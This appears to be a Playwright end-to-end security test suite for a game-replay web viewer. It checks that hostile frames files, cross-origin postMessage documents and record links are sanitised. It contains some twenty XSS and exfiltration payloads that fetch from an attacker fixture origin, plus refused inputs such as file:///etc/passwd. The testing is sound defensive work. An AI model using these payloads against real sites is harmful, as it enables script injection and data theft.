"""Hostile frames files, host messages and links, tried as an attacker would, from a second
origin (the `attacker` fixture: another port of 127.0.0.1, with CORS), in real Chromium.

For every payload: no script runs and no Python starts, no request reaches the attacker
beyond the frames file itself, the viewer stays on the site, and a save planted in the
site's localStorage is unchanged. docs/security.md says what is trusted and why.
"""
from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from ludotheque.core.record import Record
from ludotheque.explain.rules_pages import load_examples
from e2e_harness import ROOT

SAVE_KEY = "ludotheque/v1/save/planted"
SAVE = json.dumps({"planted": True, "moves": ["0:take/1"]})


def payloads(b: str) -> dict:
    """name -> frame HTML, every one trying to reach the attacker's origin b."""
    return {
        # the attack: the site's own PyScript started inside the viewer's origin
        "iframe-srcdoc-pyscript": (
            f'<iframe srcdoc="<script type=module src=/vendor/pyscript/core.js></script>'
            f'<script type=py config={b}/conf.toml>from js import fetch, localStorage; '
            f'fetch(&quot;{b}/leak&quot;)</script>"></iframe>'),
        "nested-srcdoc": (f"<iframe srcdoc=\"<iframe srcdoc='&lt;script&gt;fetch(&amp;quot;{b}/nested&amp;quot;)"
                          f"&lt;/script&gt;'></iframe>\"></iframe>"),
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url={b}/landing">',
        "script": f"<script>fetch('{b}/script')</script><div>x</div>",
        "img": f'<img src="{b}/img.png"><img src=x onerror="fetch(\'{b}/onerror\')">',
        "link-stylesheet": f'<link rel="stylesheet" href="{b}/style.css">',
        "style-import": f"<style>@import url({b}/import.css); .ex-frame {{ background: url({b}/bg.png) }}</style>",
        "style-attribute-url": (f'<div class="mk-card" style="background:url({b}/attr.png)">a</div>'
                                f'<span style="--depth:2;background-image:url(&quot;{b}/attr2.png&quot;)">b</span>'
                                f'<div style="grid-column:1;behavior:url({b}/htc)">c</div>'),
        "svg-use": f'<svg viewBox="0 0 10 10"><use href="{b}/sprite.svg#x"/><image href="{b}/i.png"/></svg>',
        "svg-paint": f'<svg viewBox="0 0 10 10"><rect width="5" height="5" fill="url({b}/p.svg#g)"/></svg>',
        "svg-onload": f"<svg onload=\"fetch('{b}/svgload')\"><path d='M0 0'/></svg>",
        "a-javascript": f"<a href=\"javascript:fetch('{b}/jslink')\" class=x>link</a>",
        "entity-encoded": (f"<a href=\"jav&#x61;script&#58;fetch('{b}/entity')\">a</a>"
                           f"<a href=\"&#106;avascript:fetch('{b}/entity2')\">b</a>"
                           f"<a href=\"java&#x09;script:fetch('{b}/entity3')\">c</a>"),
        "a-remote": f'<a href="{b}/away">away</a><a href="//127.0.0.1:1/x">pr</a>',
        "object-embed": f'<object data="{b}/obj"></object><embed src="{b}/emb">',
        "base-form": (f'<base href="{b}/"><form action="{b}/form"><button>go</button></form>'
                      f'<button formaction="{b}/fa">b</button>'),
        "details-ontoggle": f"<details open ontoggle=\"fetch('{b}/toggle')\"><summary>s</summary></details>",
        "input-image": f'<input type="image" src="{b}/input.png">',
        "clobber": '<div id="ludo-frames">x</div><form name="getElementById"></form>',
        "math-mxss": (f"<math><mtext><table><mglyph><style><img src={b}/mxss.png onerror=fetch('{b}/mxss')>"
                      "</style></mglyph></table></mtext></math>"),
    }


def script_json(value) -> str:
    """JSON to write inside the attacker's own <script> (which must stay whole itself)."""
    return json.dumps(value).replace("<", "\\u003c")


def frames_doc(html_by_name: dict) -> dict:
    frames = [{"ply": i, "move": name, "note": name, "html": f'<div class="game game-mookies still">{html}</div>'}
              for i, (name, html) in enumerate(html_by_name.items())]
    return {"format": "ludotheque-frames", "version": 1, "game": "mookies", "lang": "en", "title": "hostile",
            "css": ["css/base.css", "css/games.css", "css/mookies.css"], "plies": len(frames), "seat": 0,
            "record": "", "frames": frames}


@pytest.fixture
def victim(new_context, site_server):
    """A context on the site with a planted save; every request of its pages recorded."""
    context = new_context(viewport={"width": 800, "height": 600}, service_workers="block")
    requests = []
    context.on("request", lambda r: requests.append(r.url))
    dialogs = []
    setup = context.new_page()
    setup.goto(site_server.url("explain.html"))
    setup.evaluate("([k, v]) => localStorage.setItem(k, v)", [SAVE_KEY, SAVE])
    before = setup.evaluate("() => JSON.stringify(Object.entries(localStorage).sort())")
    setup.close()

    class Victim:
        def page(self):
            page = context.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            return page

        def check(self, page, attacker, *allowed):
            assert attacker.beyond(*allowed) == [], attacker.hits
            assert attacker.posts == []
            assert page.url.startswith(site_server.origin) or page.url.startswith(attacker.origin + "/docs/"), page.url
            python = [u for u in requests if "/vendor/pyscript/" in u or "/vendor/pyodide/" in u or u.endswith(".toml")]
            assert python == [], python
            assert not dialogs
            site = context.new_page()  # the site's storage, seen from the site
            site.goto(site_server.url("explain.html"))
            assert site.evaluate("() => JSON.stringify(Object.entries(localStorage).sort())") == before
            site.close()
            assert page.evaluate("() => window.pwned === undefined && document.body.dataset.python === undefined")

    return Victim()


def step_through(page):
    """Show every frame (the viewer paints one at a time)."""
    n = page.evaluate("() => document.querySelector('[data-testid=count]').textContent")
    total = int(n.split("/")[1])
    for _ in range(total):
        page.get_by_test_id("next").click()
    page.wait_for_function("() => document.querySelector('[data-testid=next]').disabled")


def test_hostile_frames_file_from_another_origin(victim, attacker, site_server):
    url = attacker.write("frames.json", json.dumps(frames_doc(payloads(attacker.origin))))
    page = victim.page()
    page.goto(site_server.url(f"explain.html?game=mookies&src={quote(url, safe='')}"))
    page.wait_for_selector("[data-testid=count]:not(:empty)")
    step_through(page)
    # what reached the page: no element or attribute that could load or run anything
    left = page.evaluate("""() => {
        const f = document.querySelector('.ex-frame');
        return {
          bad: [...f.querySelectorAll('iframe,script,style,link,meta,base,form,object,embed,img,use,image,math,[id],[name]')].map(e => e.outerHTML),
          attrs: [...f.querySelectorAll('*')].flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name)
              || (/^(href|src|action|formaction)$/.test(a.name) && /:|\\/\\//.test(a.value)) || /url\\(/i.test(a.value))
              .map(a => e.localName + ' ' + a.name + '=' + a.value)),
        };
    }""")
    assert left == {"bad": [], "attrs": []}, left
    page.wait_for_timeout(0)  # let any queued task run before the checks
    page.evaluate("() => new Promise(r => setTimeout(r, 300))")  # the refresh would have fired at 0 s
    victim.check(page, attacker, "frames.json")


def test_the_payloads_are_kept_apart_from_what_screens_draw(victim, attacker, site_server):
    """The screens' own markup inside a hostile frame survives (cards, SVG, style=)."""
    good = ('<section class="mk-piles" data-testid="piles"><button type="button" class="mk-pile" data-pile="1" '
            'aria-label="pile 1"><span class="mk-stack" style="--depth:3"></span></button></section>'
            '<svg viewBox="0 0 24 24" aria-hidden="true" focusable="false"><path d="M5 4h2v16H5z" fill="#fff"/></svg>'
            '<div class="mi-cell" style="grid-column:2;grid-row:3" data-cell="1,2">x</div>')
    url = attacker.write("good.json", json.dumps(frames_doc({"good": good + payloads(attacker.origin)["img"]})))
    page = victim.page()
    page.goto(site_server.url(f"explain.html?game=mookies&src={quote(url, safe='')}"))
    page.wait_for_selector(".ex-frame .mk-stack")
    assert page.eval_on_selector(".ex-frame .mk-stack", "e => e.getAttribute('style')") == "--depth:3"
    assert page.eval_on_selector(".ex-frame .mi-cell", "e => e.getAttribute('style')") == "grid-column:2;grid-row:3"
    assert page.locator(".ex-frame svg path").count() == 1
    victim.check(page, attacker, "good.json")


def test_hostile_host_messages(victim, attacker, site_server):
    """A host page on another origin sends a hostile frames document with "ludo:load"."""
    doc = frames_doc(payloads(attacker.origin))
    host = attacker.write("docs/host.html", f"""<!doctype html><body>
        <iframe id="v" src="{site_server.url('explain.html?game=mookies&src=build/examples/mookies/spider.en.js')}"></iframe>
        <script>
          var doc = {script_json(doc)};
          window.addEventListener("message", function (e) {{
            if (e.data && e.data.type === "ludo:ready" && !window.sent) {{
              window.sent = true;
              document.getElementById("v").contentWindow.postMessage({{ type: "ludo:load", record: doc }}, "*");
            }}
          }});
        </script></body>""")
    page = victim.page()
    page.goto(host)
    page.wait_for_function("() => window.sent === true")
    viewer = next(f for f in page.frames if f.url.startswith(site_server.origin))
    last = len(doc["frames"]) - 1
    viewer.wait_for_function("n => document.querySelector('[data-testid=count]').textContent.endsWith('/' + n)", arg=last)
    for _ in range(last):
        viewer.evaluate("() => document.querySelector('[data-testid=next]').click()")
    viewer.wait_for_function("() => document.querySelector('[data-testid=next]').disabled")
    assert viewer.evaluate("() => document.querySelectorAll('.ex-frame iframe, .ex-frame img, .ex-frame meta').length") == 0
    viewer.evaluate("() => new Promise(r => setTimeout(r, 300))")
    assert viewer.url.startswith(site_server.origin)
    victim.check(page, attacker, "docs/host.html")


def test_hostile_names_in_a_bare_record_link(victim, attacker, site_server):
    """#record= starts Python in the viewer; what it draws is sanitised too, and names full of
    markup stay text."""
    ex = load_examples(ROOT, "mookies")[0]
    data = ex.record.to_dict()
    data["meta"] = {}
    data["seats"][0]["name"] = f'<img src="{attacker.origin}/n">'  # a name is 40 characters at most
    data["seats"][1]["name"] = "<iframe srcdoc='<b>'>"
    rec = Record.from_dict(data)
    page = victim.page()
    page.goto(site_server.url("explain.html#record=" + rec.to_url_fragment()))
    page.wait_for_selector("[data-testid=count]:not(:empty)", timeout=120_000)
    assert "<img" in page.locator(".ex-frame").inner_text()  # shown as text
    assert page.locator(".ex-frame img, .ex-frame iframe").count() == 0
    assert attacker.hits == [] and page.evaluate("() => window.pwned === undefined")


def test_policy_holds_even_if_markup_got_through(victim, attacker, site_server, net_guard):
    """Defence in depth: HTML written straight into the viewer (as if the sanitiser had a hole)
    still loads nothing from elsewhere and runs no script: the page's policy refuses it."""
    net_guard.allow_http_error(site_server.url("x"))  # <img src=x>: our own site, answered 404
    page = victim.page()
    page.goto(site_server.url("explain.html?game=mookies&src=build/examples/mookies/spider.en.js"))
    page.wait_for_selector("[data-testid=count]:not(:empty)")
    b = attacker.origin
    page.evaluate("""html => { document.querySelector('.ex-frame').innerHTML = html; }""",
                  f"<img src='{b}/d-img.png'><img src=x onerror=\"fetch('{b}/d-onerror')\">"
                  f"<link rel=stylesheet href='{b}/d.css'><div style=\"background:url({b}/d-bg.png)\">x</div>"
                  f"<style>@import url({b}/d-import.css);</style><svg><use href='{b}/d.svg#x'/></svg>")
    page.evaluate("() => { const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.appendChild(s); }")
    page.evaluate("() => new Promise(r => setTimeout(r, 500))")
    victim.check(page, attacker)


def test_embed_host_refuses_a_javascript_viewer(victim, attacker, site_server):
    page = victim.page()
    for viewer in (f"javascript:fetch('{attacker.origin}/host-js')//", "data:text/html,<script>parent.pwned=1</script>//",
                   " javascript:parent.pwned=1//"):
        page.goto(site_server.url("docs/embed-host.html?viewer=" + quote(viewer, safe="")))
        page.wait_for_selector("#note:not(:empty)")
        assert "Refused" in page.locator("#note").text_content()
        assert page.locator("iframe").count() == 0
    victim.check(page, attacker)


@pytest.mark.parametrize("src,refused", [
    ("data:application/json,{}", True), ("blob:http://127.0.0.1/x", True), ("javascript:alert(1)", True),
    ("ftp://127.0.0.1/x.json", True), ("http://example.org/x.json", True), ("  jAvAsCrIpT:alert(1)", True),
    ("file:///etc/passwd", True), ("build/examples/mookies/spider.en.json", False),
])
def test_src_refuses_other_schemes(victim, site_server, net_guard, src, refused):
    net_guard.allow_http_error("spider.en.json")
    page = victim.page()
    page.goto(site_server.url("explain.html?lang=en&src=" + quote(src, safe="")))
    page.wait_for_selector("[data-testid=error]:not([hidden])")
    text = page.get_by_test_id("error").text_content()
    assert ("address refused" in text) is refused, text
    if refused:
        assert not net_guard.external


def test_src_limits(victim, attacker, site_server):
    """8 MB read as a stream, 400 frames: a message, never a crashed tab."""
    page = victim.page()
    small = frames_doc({f"f{i}": "<p>x</p>" for i in range(401)})
    for name, body, word in (("many.json", json.dumps(small), "too many positions"),
                             ("big.json", '{"format": "ludotheque-frames", "pad": "' + "x" * (9 << 20) + '"}', "too large")):
        url = attacker.write(name, body)
        page.goto(site_server.url(f"explain.html?lang=en&src={quote(url, safe='')}"))
        page.wait_for_selector("[data-testid=error]:not([hidden])")
        assert word in page.get_by_test_id("error").text_content()
    # no Content-Length: the viewer stops reading at 8 MB (the server would send 50)
    page.goto(site_server.url(f"explain.html?lang=en&src={quote(attacker.url('stream/50'), safe='')}"))
    page.wait_for_selector("[data-testid=error]:not([hidden])", timeout=60_000)
    assert "too large" in page.get_by_test_id("error").text_content()
    assert page.evaluate("() => 1 + 1") == 2
